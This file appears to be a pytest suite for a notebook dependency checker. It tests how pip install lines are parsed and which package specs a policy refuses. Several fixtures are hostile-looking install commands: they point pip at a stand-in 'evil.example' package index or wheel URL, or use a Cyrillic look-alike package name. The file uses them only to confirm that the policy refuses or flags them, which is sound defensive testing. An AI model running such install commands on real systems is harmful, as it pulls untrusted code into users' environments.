"""Which requirement specs a ``pip install`` line asks for, and which words the policy must see."""

from __future__ import annotations

import pytest

from watchdog_lab.bots.deps import detect_requirements
from watchdog_lab.bots.errors import PackageRefused
from watchdog_lab.bots.pip_args import (
    install_specs,
    parse_spec,
    pip_install_arguments,
    simple_commands,
)
from watchdog_lab.bots.policy import DependencyPolicy

from .notebooks import EMPTY, notebook, specs


def test_harmless_pip_options_are_dropped_and_every_package_kept() -> None:
    nb = notebook(
        "%pip install -U --quiet -qq --no-cache-dir --progress-bar off --timeout=30 "
        "ccxt==4.3.0 'pandas>=2,<3' arch"
    )
    assert specs(detect_requirements(nb, environment=EMPTY)) == [
        "ccxt==4.3.0",
        "pandas<3,>=2",
        "arch",
    ]


@pytest.mark.parametrize(
    ("line", "raw"),
    [
        ("%pip install -r requirements.txt", "-r requirements.txt"),
        ("%pip install -rrequirements.txt", "-rrequirements.txt"),
        ("%pip install -e git+https://github.com/x/y", "-e git+https://github.com/x/y"),
        ("%pip install --index-url http://evil.example/simple ccxt", "--index-url http://evil.example/simple"),
        ("%pip install --index-url=http://evil.example/simple ccxt", "--index-url=http://evil.example/simple"),
        ("%pip install --extra-index-url http://evil.example ccxt", "--extra-index-url http://evil.example"),
        ("%pip install https://evil.example/x.whl", "https://evil.example/x.whl"),
        ("%pip install ./local-pkg", "./local-pkg"),
        ("%pip install /abs/pkg", "/abs/pkg"),
        ("%pip install 'ccxt @ https://evil.example/c.whl'", "ccxt @ https://evil.example/c.whl"),
        ("%pip install 'numpy[dev]'", "numpy[dev]"),
        ("%pip install --some-new-option ccxt", "--some-new-option"),
        ("!pip install {package}", "{package}"),
    ],
)  # fmt: skip
def test_requests_the_policy_must_judge_are_kept_verbatim(line: str, raw: str) -> None:
    deps = detect_requirements(notebook(line), environment=EMPTY)
    assert raw in specs(deps)
    with pytest.raises(PackageRefused):
        DependencyPolicy().check(raw)


def test_unquoted_version_comparison_is_a_shell_redirection_and_warned() -> None:
    deps = detect_requirements(notebook("!pip install ccxt>=4"), environment=EMPTY)
    assert specs(deps) == ["ccxt"]
    assert any("redirection" in w for w in deps.warnings)


# -- the parts on their own ----------------------------------------------------------------


def requested(line: str) -> list[str] | None:
    """The specs one shell line's pip install asks for; None when it installs nothing."""
    found: list[str] | None = None
    for command in simple_commands(line, 0, lambda _: None):
        arguments = pip_install_arguments(command)
        if arguments is not None:
            found = (found or []) + install_specs(arguments)
    return found


@pytest.mark.parametrize(
    "line",
    [
        "pip install ccxt",
        "pip3.12 install ccxt",
        "/usr/bin/pip install ccxt",
        "python -m pip install ccxt",
        "{sys.executable} -m pip install ccxt",
        "uv pip install ccxt",
        "pip --quiet install ccxt",
        "PIP_NO_INPUT=1 sudo pip install ccxt",
        "cd /tmp && pip install ccxt; echo done",
    ],
)
def test_pip_is_recognised_in_every_spelling(line: str) -> None:
    assert requested(line) == ["ccxt"]


@pytest.mark.parametrize(
    "line",
    ["pip list", "pip download ccxt", "python script.py install ccxt", "echo pip install ccxt"],
)
def test_commands_that_do_not_install_ask_for_nothing(line: str) -> None:
    assert requested(line) is None


def test_source_options_keep_their_value_and_ignored_options_drop_theirs() -> None:
    line = "pip install --timeout 30 -t /tmp/x --index-url https://evil.example -f ./w ccxt"
    assert requested(line) == ["--index-url https://evil.example", "-f ./w", "ccxt"]


def test_words_after_a_double_dash_are_all_specs() -> None:
    assert requested("pip install -q -- --not-an-option ccxt") == ["--not-an-option", "ccxt"]


def test_comment_ends_the_line_and_redirections_are_not_specs() -> None:
    assert requested("pip install ccxt 2>/dev/null # and arch") == ["ccxt"]


def test_a_redirection_that_looks_like_a_version_is_warned_about_with_the_cell() -> None:
    warnings: list[str] = []
    commands = simple_commands("pip install ccxt>=4", 2, warnings.append)
    assert commands == [["pip", "install", "ccxt"]]
    assert len(warnings) == 1 and warnings[0].startswith("Cell 3:")


@pytest.mark.parametrize(
    ("spec", "parsed"),
    [
        ("CCXT==4.3", ("ccxt", True)),
        ("pandas>=2,<3", ("pandas", True)),
        ("numpy[dev]", ("numpy", False)),
        ("ccxt; python_version>'3'", ("ccxt", False)),
        ("ccxt @ https://evil.example/c.whl", ("ccxt", False)),
        ("-r requirements.txt", (None, False)),
        ("./local-pkg", (None, False)),
        ("\u0441\u0441xt", (None, False)),  # Cyrillic look-alikes
    ],
)
def test_only_a_plain_name_and_version_counts_as_clean(
    spec: str, parsed: tuple[str | None, bool]
) -> None:
    assert parse_spec(spec) == parsed
